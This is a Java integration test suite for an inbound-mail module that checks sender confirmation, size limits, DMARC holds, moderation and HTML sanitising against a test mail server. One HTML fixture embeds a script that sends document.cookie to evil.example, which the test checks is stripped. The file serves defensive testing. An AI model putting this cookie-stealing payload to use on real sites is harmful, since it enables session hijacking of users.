package org.passerelle.kernel.mail.inbound;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Properties;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import jakarta.mail.Address;
import jakarta.mail.Session;
import jakarta.mail.Transport;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;

import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.GreenMailUtil;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.passerelle.accounts.Accounts;
import org.passerelle.accounts.Role;
import org.passerelle.kernel.mail.inbound.internal.InboundMailPoller;
import org.passerelle.test.PasserelleIntegrationTest;
import org.passerelle.test.TestMailServer;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.context.annotation.Bean;
import org.springframework.data.domain.PageRequest;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.servlet.MockMvc;

/**
 * Inbound mail against a real SMTP and IMAP server (GreenMail): messages are sent by SMTP
 * to the mailbox, one poll reads them, and what the sender, the handler and the
 * moderators see is checked.
 */
@PasserelleIntegrationTest
class InboundMailIntegrationTests {

	private static final String MAILBOX = TestMailServer.MAILBOX;

	private static final GreenMail mailServer = TestMailServer.start();

	@DynamicPropertySource
	static void mailServers(DynamicPropertyRegistry registry) {
		TestMailServer.register(registry, mailServer);
	}

	@AfterAll
	static void stopMailServer() {
		mailServer.stop();
	}

	@Autowired
	InboundMailPoller poller;

	@Autowired
	InboundMailbox mailbox;

	@Autowired
	Accounts accounts;

	@Autowired
	MockMvc mvc;

	@Test
	void deliversAMembersMailWithoutTheQuotedTextAndAcknowledgesIt() throws Exception {
		String member = unique("member");
		long memberId = this.accounts.createConfirmedUser(member, "Ana Ruiz", "a-long-enough-password", Locale.ENGLISH,
				Set.of(Role.MEMBER));
		String subject = "Week 1 " + UUID.randomUUID();

		send(message(member, "participate+test-water@example.org", subject, "text/plain; charset=UTF-8", """
				Our city funds a reception desk with the region.

				On Mon, 3 Mar 2025 at 10:00, Passerelle <participate@example.org> wrote:
				> What does your city do for newcomers?
				"""));
		this.poller.poll();

		InboundMail received = TestHandler.received(subject);
		assertThat(received.text()).isEqualTo("Our city funds a reception desk with the region.");
		assertThat(received.originalText()).contains("What does your city do");
		assertThat(received.senderUserId()).isEqualTo(memberId);
		assertThat(received.senderAddress()).isEqualTo(member);
		assertThat(received.key()).isEqualTo("water");
		assertThat(stored(subject).status()).isEqualTo(InboundMailStatus.DELIVERED);

		MimeMessage acknowledgement = onlyMailTo(member);
		assertThat(acknowledgement.getSubject()).contains(subject);
		assertThat(acknowledgement.getHeader("Auto-Submitted", null)).isEqualTo("auto-replied");
		assertThat(GreenMailUtil.getBody(acknowledgement)).contains("Thank you, the test handler has it.");
	}

	@Test
	void holdsAnUnknownSendersMailUntilTheyConfirmThroughTheLink() throws Exception {
		String stranger = unique("stranger");
		String subject = "Contribution " + UUID.randomUUID();

		send(message(stranger, "participate+test-water@example.org", subject, "text/plain; charset=UTF-8",
				"Nous proposons un guichet unique.\n"));
		this.poller.poll();

		InboundMailSummary held = stored(subject);
		assertThat(held.status()).isEqualTo(InboundMailStatus.HELD);
		assertThat(held.reason()).isEqualTo("unknown sender, waiting for confirmation");
		assertThat(TestHandler.find(subject)).isEmpty();

		String confirmation = GreenMailUtil.getBody(onlyMailTo(stranger));
		Matcher link = Pattern.compile("/mail/confirm/([A-Za-z0-9._-]+)").matcher(confirmation.replace("=\r\n", ""));
		assertThat(link.find()).as("a confirmation link in %s", confirmation).isTrue();

		// fetching the link, as mail scanners do, only asks
		this.mvc.perform(get("/mail/confirm/{token}", link.group(1)))
			.andExpect(status().isOk())
			.andExpect(content().string(containsString("method=\"post\"")));
		assertThat(TestHandler.find(subject)).isEmpty();
		assertThat(stored(subject).status()).isEqualTo(InboundMailStatus.HELD);

		this.mvc.perform(post("/mail/confirm/{token}", link.group(1)).with(csrf())).andExpect(status().isOk());

		InboundMail delivered = TestHandler.received(subject);
		assertThat(delivered.senderAddress()).isEqualTo(stranger);
		assertThat(delivered.senderUserId()).isNull();
		assertThat(delivered.text()).isEqualTo("Nous proposons un guichet unique.");
		assertThat(stored(subject).status()).isEqualTo(InboundMailStatus.CONFIRMED);

		// a link works once
		this.mvc.perform(get("/mail/confirm/{token}", link.group(1))).andExpect(status().isNotFound());
		this.mvc.perform(post("/mail/confirm/{token}", link.group(1)).with(csrf())).andExpect(status().isNotFound());
		assertThat(TestHandler.find(subject)).hasSize(1);
	}

	@Test
	void refusesAForgedConfirmationLink() throws Exception {
		this.mvc.perform(get("/mail/confirm/{token}", "1.9999999999.abc.forged")).andExpect(status().isNotFound());
		this.mvc.perform(post("/mail/confirm/{token}", "1.9999999999.abc.forged").with(csrf()))
			.andExpect(status().isNotFound());
	}

	@Test
	void recordsATooLargeMailWithoutDownloadingItAndReadsTheNextOne() throws Exception {
		String member = member();
		String bigSubject = "Big " + UUID.randomUUID();
		String nextSubject = "Next " + UUID.randomUUID();
		ByteArrayOutputStream big = new ByteArrayOutputStream(31 * 1024 * 1024);
		big.writeBytes(
				message(member, "participate+test-water@example.org", bigSubject, "text/plain; charset=US-ASCII", "")
					.getBytes(StandardCharsets.US_ASCII));
		byte[] line = ("x".repeat(998) + "\r\n").getBytes(StandardCharsets.US_ASCII);
		while (big.size() < 30 * 1024 * 1024) {
			big.writeBytes(line);
		}

		send(big.toByteArray());
		send(message(member, "participate+test-water@example.org", nextSubject, "text/plain; charset=UTF-8",
				"A short one.\n"));
		this.poller.poll();

		InboundMailSummary tooLarge = stored(bigSubject);
		assertThat(tooLarge.status()).isEqualTo(InboundMailStatus.REJECTED);
		assertThat(tooLarge.reason()).matches("too large \\(30\\.\\d MB > 10 MB\\)");
		assertThat(this.mailbox.raw(tooLarge.id())).isEmpty();
		assertThat(this.mailbox.find(tooLarge.id()).orElseThrow().headers()).contains(bigSubject);
		assertThat(TestHandler.find(bigSubject)).isEmpty();
		assertThat(stored(nextSubject).status()).isEqualTo(InboundMailStatus.DELIVERED);
	}

	@Test
	void deliversTheTextOfAnHtmlMailWithoutItsScript() throws Exception {
		String member = member();
		String subject = "Html " + UUID.randomUUID();

		send(message(member, "participate+test-water@example.org", subject, "text/html; charset=UTF-8", """
				<html><head><style>p { color: red; }</style></head><body>
				<div>Our region runs <b>language courses</b>.</div><div>They are free.</div>
				<script>document.location='https://evil.example/?c='+document.cookie</script>
				<blockquote>Quoted question</blockquote>
				</body></html>
				"""));
		this.poller.poll();

		InboundMail received = TestHandler.received(subject);
		assertThat(received.text()).isEqualTo("Our region runs language courses.\nThey are free.");
		assertThat(received.originalText()).doesNotContain("document", "evil", "color", "<");
	}

	@Test
	void rejectsAMalformedMessageKeepingItsRawBytes() throws Exception {
		String member = member();
		String subject = "Broken " + UUID.randomUUID();
		String nextSubject = "After broken " + UUID.randomUUID();
		String broken = message(member, "participate+test-water@example.org", subject,
				"multipart/mixed; boundary=\"declared-boundary\"", """
						--another-boundary
						Content-Type: text/plain

						This part never starts.
						""");

		send(broken);
		send(message(member, "participate+test-water@example.org", nextSubject, "text/plain; charset=UTF-8",
				"Still read.\n"));
		this.poller.poll();

		InboundMailSummary rejected = stored(subject);
		assertThat(rejected.status()).isEqualTo(InboundMailStatus.REJECTED);
		assertThat(rejected.reason()).startsWith("malformed message: ");
		assertThat(new String(this.mailbox.raw(rejected.id()).orElseThrow(), StandardCharsets.US_ASCII))
			.contains("This part never starts.");
		assertThat(TestHandler.find(subject)).isEmpty();
		assertThat(stored(nextSubject).status()).isEqualTo(InboundMailStatus.DELIVERED);

		byte[] download = this.mvc
			.perform(get("/admin/inbound-mail/{id}/raw", rejected.id()).with(user("moderator").roles("MODERATOR")))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsByteArray();
		assertThat(new String(download, StandardCharsets.US_ASCII)).contains("This part never starts.");
	}

	@Test
	void rejectsAnAutomaticReplyWithoutAnswering() throws Exception {
		String member = member();
		String subject = "Out of office " + UUID.randomUUID();

		send(message(member, "participate+test-water@example.org", subject, "text/plain; charset=UTF-8",
				"I am away until Monday.\n", "Auto-Submitted: auto-replied"));
		this.poller.poll();

		InboundMailSummary rejected = stored(subject);
		assertThat(rejected.status()).isEqualTo(InboundMailStatus.REJECTED);
		assertThat(rejected.reason()).isEqualTo("automatic mail (Auto-Submitted: auto-replied)");
		assertThat(TestHandler.find(subject)).isEmpty();
		assertThat(mailsTo(member)).isEmpty();
	}

	@Test
	void holdsASenderTheReceivingServerCouldNotAuthenticate() throws Exception {
		String member = member();
		String subject = "Spoofed " + UUID.randomUUID();

		send(message(member, "participate+test-water@example.org", subject, "text/plain; charset=UTF-8",
				"Send the money here.\n",
				"Authentication-Results: mx.example.org; spf=pass smtp.mailfrom=bounce@elsewhere.example;"
						+ " dmarc=fail (p=none) header.from=example.org"));
		this.poller.poll();

		InboundMailSummary held = stored(subject);
		assertThat(held.status()).isEqualTo(InboundMailStatus.HELD);
		assertThat(held.reason()).isEqualTo("sender not authenticated (dmarc=fail)");
		assertThat(TestHandler.find(subject)).isEmpty();
		assertThat(mailsTo(member)).isEmpty();

		this.mvc
			.perform(post("/admin/inbound-mail/{id}/deliver", held.id()).with(user("moderator").roles("MODERATOR"))
				.with(csrf()))
			.andExpect(status().is3xxRedirection());
		assertThat(TestHandler.received(subject).senderAddress()).isEqualTo(member);
		assertThat(stored(subject).status()).isEqualTo(InboundMailStatus.DELIVERED);
	}

	@Test
	void rejectsMailToAnAddressNoModuleAnswers() throws Exception {
		String member = member();
		String subject = "Nowhere " + UUID.randomUUID();

		send(message(member, "participate+nothing-here@example.org", subject, "text/plain; charset=UTF-8", "Hello?\n"));
		this.poller.poll();

		InboundMailSummary rejected = stored(subject);
		assertThat(rejected.status()).isEqualTo(InboundMailStatus.REJECTED);
		assertThat(rejected.reason()).startsWith("no such address");
		assertThat(mailsTo(member)).isEmpty();
	}

	@Test
	void tellsTheSenderWhyTheHandlerRefusedTheirMail() throws Exception {
		String member = member();
		String subject = "Late " + UUID.randomUUID();

		send(message(member, "participate+test-closed@example.org", subject, "text/plain; charset=UTF-8",
				"Is it too late?\n"));
		this.poller.poll();

		InboundMailSummary refused = stored(subject);
		assertThat(refused.status()).isEqualTo(InboundMailStatus.REJECTED);
		assertThat(refused.reason()).isEqualTo("refused: the round is closed");
		MimeMessage answer = onlyMailTo(member);
		assertThat(answer.getSubject()).isEqualTo("Message not accepted: " + subject);
		assertThat(GreenMailUtil.getBody(answer)).contains("the round is closed");
	}

	@Test
	void letsAModeratorRejectAHeldMail() throws Exception {
		String subject = "To reject " + UUID.randomUUID();
		send(message(unique("stranger"), "participate+test-water@example.org", subject, "text/plain; charset=UTF-8",
				"Buy now.\n"));
		this.poller.poll();
		long id = stored(subject).id();

		this.mvc
			.perform(post("/admin/inbound-mail/{id}/reject", id).param("reason", "advertising")
				.with(user("moderator").roles("MODERATOR"))
				.with(csrf()))
			.andExpect(status().is3xxRedirection());

		assertThat(stored(subject).status()).isEqualTo(InboundMailStatus.REJECTED);
		assertThat(stored(subject).reason()).isEqualTo("advertising");
		this.mvc
			.perform(post("/admin/inbound-mail/{id}/deliver", id).with(user("moderator").roles("MODERATOR"))
				.with(csrf()))
			.andExpect(status().isConflict());
		assertThat(TestHandler.find(subject)).isEmpty();
	}

	@Test
	void readsEachMessageOnce() throws Exception {
		String member = member();
		String subject = "Once " + UUID.randomUUID();
		String raw = message(member, "participate+test-water@example.org", subject, "text/plain; charset=UTF-8",
				"Only once.\n");

		send(raw);
		send(raw);
		this.poller.poll();
		this.poller.poll();

		assertThat(TestHandler.find(subject)).hasSize(1);
		assertThat(this.mailbox.list(null, PageRequest.of(0, 200)).filter(m -> subject.equals(m.subject()))).hasSize(1);
	}

	@Test
	void showsModeratorsTheMessagesButNotMembers() throws Exception {
		String member = member();
		String subject = "Visible " + UUID.randomUUID();
		send(message(member, "participate+test-water@example.org", subject, "text/plain; charset=UTF-8",
				"<b>not bold</b>\n"));
		this.poller.poll();
		long id = stored(subject).id();

		String list = this.mvc.perform(get("/admin/inbound-mail").with(user("moderator").roles("MODERATOR")))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(list).contains(subject);
		String page = this.mvc.perform(get("/admin/inbound-mail/{id}", id).with(user("moderator").roles("MODERATOR")))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(page).contains("&lt;b&gt;not bold&lt;/b&gt;").doesNotContain("<b>not bold</b>");
		this.mvc.perform(get("/admin/inbound-mail").with(user("member").roles("MEMBER")))
			.andExpect(status().isForbidden());
	}

	private String member() {
		String address = unique("member");
		this.accounts.createConfirmedUser(address, "Member", "a-long-enough-password", Locale.FRENCH,
				Set.of(Role.MEMBER));
		return address;
	}

	private static String unique(String name) {
		return name + "-" + UUID.randomUUID().toString().substring(0, 8) + "@example.org";
	}

	private InboundMailSummary stored(String subject) {
		return this.mailbox.list(null, PageRequest.of(0, 200))
			.filter(m -> subject.equals(m.subject()))
			.stream()
			.findFirst()
			.orElseThrow(() -> new AssertionError("no stored message \"" + subject + "\""));
	}

	private static String message(String from, String to, String subject, String contentType, String body,
			String... headers) {
		StringBuilder raw = new StringBuilder();
		raw.append("From: ").append(from).append("\r\n");
		raw.append("To: ").append(to).append("\r\n");
		raw.append("Subject: ").append(subject).append("\r\n");
		raw.append("Date: Mon, 3 Mar 2025 10:00:00 +0000\r\n");
		raw.append("Message-ID: <").append(UUID.randomUUID()).append("@sender.example>\r\n");
		raw.append("Content-Language: en\r\n");
		raw.append("MIME-Version: 1.0\r\n");
		raw.append("Content-Type: ").append(contentType).append("\r\n");
		for (String header : headers) {
			raw.append(header).append("\r\n");
		}
		raw.append("\r\n").append(body.replace("\r\n", "\n").replace("\n", "\r\n"));
		return raw.toString();
	}

	/**
	 * Sends the bytes as they are, to the mailbox itself: the mail server's
	 * plus-addressing delivers {@code participate+tag@} there and keeps the {@code To}
	 * header.
	 */
	private static void send(String raw) throws Exception {
		send(raw.getBytes(StandardCharsets.UTF_8));
	}

	private static void send(byte[] raw) throws Exception {
		Properties properties = new Properties();
		properties.setProperty("mail.smtp.host", "127.0.0.1");
		properties.setProperty("mail.smtp.port", Integer.toString(mailServer.getSmtp().getPort()));
		Session session = Session.getInstance(properties);
		MimeMessage message = new MimeMessage(session, new ByteArrayInputStream(raw));
		try (Transport transport = session.getTransport("smtp")) {
			transport.connect();
			transport.sendMessage(message, new Address[] { new InternetAddress(MAILBOX) });
		}
	}

	private static List<MimeMessage> mailsTo(String address) {
		return Arrays.stream(mailServer.getReceivedMessages()).filter(m -> {
			try {
				return m.getAllRecipients() != null && Arrays.stream(m.getAllRecipients())
					.anyMatch(r -> ((InternetAddress) r).getAddress().equalsIgnoreCase(address));
			}
			catch (jakarta.mail.MessagingException ex) {
				return false;
			}
		}).toList();
	}

	private static MimeMessage onlyMailTo(String address) {
		List<MimeMessage> mails = mailsTo(address);
		assertThat(mails).as("mail to %s", address).hasSize(1);
		return mails.get(0);
	}

	/** Takes every mail to {@code participate+test-…@}, and remembers it. */
	static class TestHandler implements InboundMailHandler {

		static final List<InboundMail> RECEIVED = new CopyOnWriteArrayList<>();

		@Override
		public String prefix() {
			return "test";
		}

		@Override
		public InboundMailOutcome receive(InboundMail mail) {
			RECEIVED.add(mail);
			if (mail.key().equals("closed")) {
				return InboundMailOutcome.refused("the round is closed");
			}
			return InboundMailOutcome.accepted("Thank you, the test handler has it.");
		}

		static List<InboundMail> find(String subject) {
			return RECEIVED.stream().filter(m -> subject.equals(m.subject())).toList();
		}

		static InboundMail received(String subject) {
			List<InboundMail> found = find(subject);
			assertThat(found).as("mails \"%s\" the handler received", subject).hasSize(1);
			return found.get(0);
		}

	}

	@TestConfiguration(proxyBeanMethods = false)
	static class Handlers {

		@Bean
		TestHandler testHandler() {
			return new TestHandler();
		}

	}

}
